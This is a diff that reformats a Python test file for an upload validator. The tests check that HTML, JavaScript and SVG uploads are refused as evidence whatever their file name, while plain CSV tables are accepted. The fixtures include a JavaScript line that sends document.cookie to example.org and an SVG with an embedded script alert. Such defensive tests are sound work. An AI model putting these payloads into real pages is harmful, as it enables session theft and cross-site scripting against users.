@@ -15,8 +15,10 @@ pytestmark = pytest.mark.date_sensitive
 
 HTML_PAGE = b"<!DOCTYPE html><html><body><h1>Informe</h1><script>fetch('/cuenta/')</script></body></html>"
 SCRIPT = b"const token = document.cookie;\nfetch('https://example.org/?c=' + token);\n"
-SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
-       b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>")
+SVG = (
+    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
+    b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>"
+)
 PLAIN_CSV = b"Mes;Reclamos;Resueltos\nenero;120;118\nfebrero;98;97\n"
 
 
@@ -38,7 +40,13 @@ def _enter(client, liaison, name, content):
 
 @pytest.mark.parametrize(
     ("name", "content"),
-    [("x.html", HTML_PAGE), ("x.js", SCRIPT), ("grafico.svg", SVG), ("informe.pdf", HTML_PAGE), ("datos.csv", HTML_PAGE)],
+    [
+        ("x.html", HTML_PAGE),
+        ("x.js", SCRIPT),
+        ("grafico.svg", SVG),
+        ("informe.pdf", HTML_PAGE),
+        ("datos.csv", HTML_PAGE),
+    ],
 )
 def test_pages_and_scripts_are_refused_as_evidence_whatever_their_name(client, directorates, liaison, name, content):
     response = _enter(client, liaison, name, content)
@@ -97,8 +105,12 @@ def test_an_xlsx_bomb_is_refused_as_evidence_in_well_under_a_second(client, dire
 
 @pytest.mark.parametrize(
     "text",
-    ["Export total;Import 2026\n12;5\n", "Respaldo;Archivo\nActa;Ver document.pdf\n", "Tramo;Valor\n0<x<5;1.843\n",
-     "Función;Meta\nLet it be;90\n"],
+    [
+        "Export total;Import 2026\n12;5\n",
+        "Respaldo;Archivo\nActa;Ver document.pdf\n",
+        "Tramo;Valor\n0<x<5;1.843\n",
+        "Función;Meta\nLet it be;90\n",
+    ],
 )
 def test_ordinary_tables_that_mention_code_words_are_still_accepted(text):
     from gabinete.uploads import CSV, FileKindValidator
